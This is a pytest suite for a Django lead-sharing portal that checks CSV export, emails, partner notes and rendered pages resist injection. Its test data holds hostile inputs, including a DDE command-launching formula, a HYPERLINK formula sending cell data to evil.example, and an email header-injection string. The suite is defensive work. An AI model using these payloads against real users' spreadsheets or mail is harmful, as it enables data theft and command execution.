"""What somebody typed is only text, wherever it is shown; see `browser/test_xss.py` for pages."""

from __future__ import annotations

import csv
import io
import json
from typing import Any

import pytest
from django.core import mail
from django.test import Client
from django.utils import timezone

from commissions.exports import csv_lines, safe_cell
from commissions.services import report_status
from events import mails
from events.models import Delivery
from leads import services
from leads.groups import Groups
from leads.models import Lead, Share
from leads.tests.factories import LeadFactory
from leads.typesetting import Document
from partners.models import Partner, User
from portal.tests import hostile
from portal.tests.callers import Caller
from portal.tests.disclosure import Eyes

pytestmark = pytest.mark.django_db


# --- spreadsheets ------------------------------------------------------------------------------
FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "  =1+1",
    "\ufeff=1+1", "'=1+1", '"=1+1', "\x00=1+1", "＝1+1", "＋1", "－1+1", "＠SUM(A1)",
    ";=1+1", "|=1", "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?"&A1)', "-2+3+cmd|' /C calc'!A0",
    "+9715x", "--1", "-1;=2", "+971 50\n=1",
]  # fmt: skip
PLAIN = ["+971501234567", "+971 50 123 4567", "-750000.00", "-0.5", "1500000", "share_5v3v", "",
         "2026-11-23T04:00:00Z", "محمد", "Smith, John", 'the "best"', "a-b", "x=y"]  # fmt: skip


@pytest.mark.parametrize("cell", FORMULAS)
def test_no_cell_starts_a_formula(cell: str) -> None:
    assert safe_cell(cell).startswith("'")
    assert "\x00" not in safe_cell(cell)


@pytest.mark.parametrize("cell", PLAIN)
def test_what_people_work_with_stays_as_it_is(cell: str) -> None:
    assert safe_cell(cell) == cell


@pytest.mark.parametrize("separator", [",", ";", "\t", "|"])
def test_no_cell_falls_apart_where_another_separator_is_usual(separator: str) -> None:
    inner = [f"a{mark}=1+1" for mark in ",;\t|\r\n"]
    text = "".join(csv_lines([[cell] for cell in inner]))

    for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator):
        assert len(row) == 1


def test_cells_come_back_as_they_went() -> None:
    rows = [[cell, "x"] for cell in PLAIN]

    assert list(csv.reader(io.StringIO("".join(csv_lines(rows)), newline=""))) == rows


# --- mails -------------------------------------------------------------------------------------
BREAKING = "Acme\r\nBcc: victim@evil.example\r\n\r\n<b>Free</b>\u2028villas"


def test_no_name_makes_a_header(
    dana: User, amira: User, acme: Partner, rival: Partner, settings: Any
) -> None:
    settings.PLATFORM_LEGAL_NAME = BREAKING
    lead = LeadFactory.create(agent=dana, name=BREAKING, email="zoe@example.com", notes=BREAKING)
    share = services.share_lead(actor=dana, partner_id=acme.pk, lead_id=lead.pk)
    services.send_client_link(actor=dana, lead_id=lead.pk)
    services.propose_partner(
        actor=dana, lead_id=lead.pk, partner_id=rival.pk, choice=Groups.everything()
    )
    services.ask_for_more(actor=amira, reference=share.pk, group="contact", reason=BREAKING * 3)
    Partner.objects.filter(pk=acme.pk).update(name=BREAKING)
    report_status(actor=amira, reference=str(share.pk), status="rejected", reason=BREAKING)

    queued = list(Delivery.objects.filter(channel=Delivery.Channel.EMAIL))
    written, _settled = mails.write(queued)
    assert len(written) >= 4
    results = [mails.send(each) for each in written]

    assert {result.state for result in results} == {Delivery.State.SENT}
    assert any("Acme" in letter.subject for letter in mail.outbox)
    for letter in mail.outbox:
        message = letter.message()
        assert message["Bcc"] is None
        assert "\n" not in letter.subject
        assert len(letter.recipients()) == 1
        assert "<b>" not in letter.subject
        assert {part.get_content_subtype() for part in message.walk()} <= {
            "plain", "mixed", "pdf", "json",
        }  # fmt: skip


# --- the log, paper ----------------------------------------------------------------------------
def test_a_hostile_world_on_paper(dana: User, acme: Partner, monkeypatch: Any) -> None:
    lead = LeadFactory.create(agent=dana)
    services.share_lead(
        actor=dana, partner_id=acme.pk, lead_id=lead.pk, choice=Groups.everything(), method="call"
    )
    hostile.fill()
    papers: list[Document] = []
    as_pdf = Document.as_pdf

    def kept(document: Document) -> bytes:
        papers.append(document)
        return as_pdf(document)

    monkeypatch.setattr(Document, "as_pdf", kept)
    services.take_copy(actor=dana, lead_id=lead.pk)
    client = Client()
    client.force_login(dana)
    answer = client.post(f"/leads/{lead.pk}/copy/")

    assert answer.status_code == 200
    assert papers
    assert hostile.MARK in str(papers[0])  # set as text: tests of leads.typesetting say so


# --- what a partner writes of a client ---------------------------------------------------------
NOTE = "zqnote: her husband must not know"


@pytest.fixture
def shares(dana: User, acme: Partner, rival: Partner) -> tuple[Share, Share]:
    """One lead that both partners have."""
    lead = LeadFactory.create(agent=dana)
    mine, theirs = (
        services.share_lead(
            actor=dana,
            partner_id=partner.pk,
            lead_id=lead.pk,
            choice=Groups.everything(),
            method="call",
        )
        for partner in (acme, rival)
    )
    return mine, theirs


@pytest.mark.parametrize("status", ["accepted", "rejected", "closed"])
def test_notes_of_a_partner_reach_no_other_partner_and_no_client(
    status: str, shares: tuple[Share, Share], rival: Partner, acme_api: Caller, dana: User
) -> None:
    mine, theirs = shares
    eyes = Eyes.of(rival)
    if status == "closed":
        acme_api.post("/api/partner-update", {"leadId": mine.pk, "status": "accepted"})
    body = {"leadId": mine.pk, "status": status, "notes": NOTE}
    if status == "closed":
        body["agreementValue"] = 5_000_000
    answer = acme_api.post("/api/partner-update", body)
    assert answer.status_code == 200, answer.content
    Share.objects.filter(pk=mine.pk).update(notes=NOTE, reason=NOTE)
    assert NOTE in str(list(Share.objects.values_list("notes", flat=True)))

    told = dict(eyes.surfaces(theirs))
    assert len(told) > 10
    assert not [name for name, text in told.items() if "zqnote" in text]
    link = services.issue_client_link(actor=dana, lead_id=mine.lead_id)
    client = Client()
    client.get(f"/c/{link}/")
    for path in ("/c/open/", "/c/open/lead/"):
        assert b"zqnote" not in client.get(path).content


# --- everything at once, without a browser -----------------------------------------------------
def test_no_page_holds_what_was_typed_as_markup(
    dana: User, amira: User, admin_user: User, shares: tuple[Share, Share], client_for: Any
) -> None:
    mine, _theirs = shares
    services.share_appointment(
        actor=dana,
        partner_id=mine.partner_id,
        reference=mine.pk,
        draft=services.AppointmentDraft(type="viewing", starts_at=timezone.now(), location="Site"),
    )
    filled = hostile.fill()
    assert {"Lead.name", "Lead.notes", "Partner.name", "Share.reason", "Appointment.location",
            "Lead.locations", "User.name"} <= filled  # fmt: skip

    for user, paths in {
        dana: ["/leads/", f"/leads/{mine.lead_id}/", "/leads/deletions/", "/analytics/"],
        amira: ["/portal/", "/portal/leads/", f"/portal/leads/{mine.pk}/", "/portal/settings/"],
        admin_user: [
            "/admin/", "/admin/partners/partner/", "/admin/partners/user/", "/admin/leads/lead/",
            f"/admin/partners/partner/{mine.partner_id}/change/", "/reconciliation/",
            "/reconciliation/differences/", "/reconciliation/commissions/",
            "/reconciliation/statements/", "/reconciliation/statements/new/",
            f"/admin/leads/lead/{mine.lead_id}/change/", "/analytics/events.jsonl",
        ],
    }.items():  # fmt: skip
        browser = client_for(user)
        for path in paths:
            assert_only_text(browser.get(path, headers={}))
            assert_only_text(browser.get(path, headers={"HX-Request": "true"}))


def assert_only_text(answer: Any) -> None:
    body = b"".join(answer.streaming_content) if answer.streaming else answer.content
    text = body.decode()
    where = f"{answer.request['PATH_INFO']}: {answer.status_code}"
    if answer["Content-Type"].startswith("text/html"):
        for opened in ("<script>window", f"id={hostile.MARK}>", f"<img src=x id={hostile.MARK}"):
            assert opened not in text, where
        assert 'href="javascript:' not in text, where
        assert f'" id={hostile.MARK}' not in text, where
    else:
        assert answer["X-Content-Type-Options"] == "nosniff"
        for line in text.splitlines():
            json.loads(line)


def test_the_hostile_world_is_in_the_database(shares: tuple[Share, Share]) -> None:
    hostile.fill()

    assert hostile.MARK in Lead.objects.values_list("name", flat=True)[0] + str(
        list(Partner.objects.values_list("name", flat=True))
    )
